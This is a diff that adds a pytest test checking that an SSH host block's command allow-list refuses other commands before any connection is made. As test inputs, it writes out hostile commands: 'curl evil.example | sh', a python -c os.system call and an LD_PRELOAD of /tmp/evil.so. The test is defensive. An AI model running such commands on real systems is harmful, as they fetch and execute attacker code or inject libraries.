@@ -226,3 +226,38 @@ def test_command_line_refuses_bad_input(case: str, tmp_path: Path) -> None:
     assert proc.returncode == 2, (proc.returncode, proc.stdout, proc.stderr)
     assert needle in proc.stderr, proc.stderr
     assert "Traceback" not in proc.stderr
+
+
+@pytest.mark.parametrize("case", ["another program", "python -c", "LD_PRELOAD", "host_python"])
+async def test_a_host_that_restricts_commands_refuses_others_before_it_is_touched(case: str, tripwire: Tripwire,
+                                                                                  tmp_path: Path) -> None:
+    """Whoever can create flow runs can run commands on the hosts in the blocks; a block's allow-list
+    limits which. A flow parameter naming the block cannot lift it."""
+    from tasks.blocks import SSHHostBlock
+
+    key = tmp_path / "id_unused"
+    key.write_text("not a key\n")
+    allowed = f"{sys.executable} {TOY}"
+    await SSHHostBlock(hostname="127.0.0.1", port=tripwire.port, user="nobody", private_key="not a key",  # type: ignore[arg-type]
+                       allowed_commands=[allowed, "/usr/local/bin/llama-server"]).save("locked-gpu", overwrite=True)
+    host: dict[str, Any] = {"block": "locked-gpu", "allowed_commands": None}
+    prof = profile()
+    needle = "is not among the commands"
+    if case == "another program":
+        prof = profile(argv=["/bin/sh", "-c", "curl evil.example | sh"])
+    elif case == "python -c":
+        prof = profile(argv=[sys.executable, "-c", "import os; os.system('id')"])
+    elif case == "LD_PRELOAD":
+        prof = profile(env={"LD_PRELOAD": "/tmp/evil.so"})
+        needle = "profile.env: LD_PRELOAD would let the server run other code"
+    else:
+        host["load_generator"] = "host"
+        host["host_python"] = "/tmp/evil"
+        needle = "host.host_python: /tmp/evil -I -m specsweep.bench.remote... is not among the commands"
+    before = tripwire.connections
+    state = await benchmark_config(profile=prof, host=host, return_state=True,  # type: ignore[arg-type]
+                                   benchmark={"results": str(tmp_path / "results")})  # type: ignore[arg-type]
+    assert state.is_failed()
+    assert needle in (state.message or ""), state.message
+    assert "allowed_commands" in (state.message or "")
+    assert tripwire.connections == before, "the host was touched"
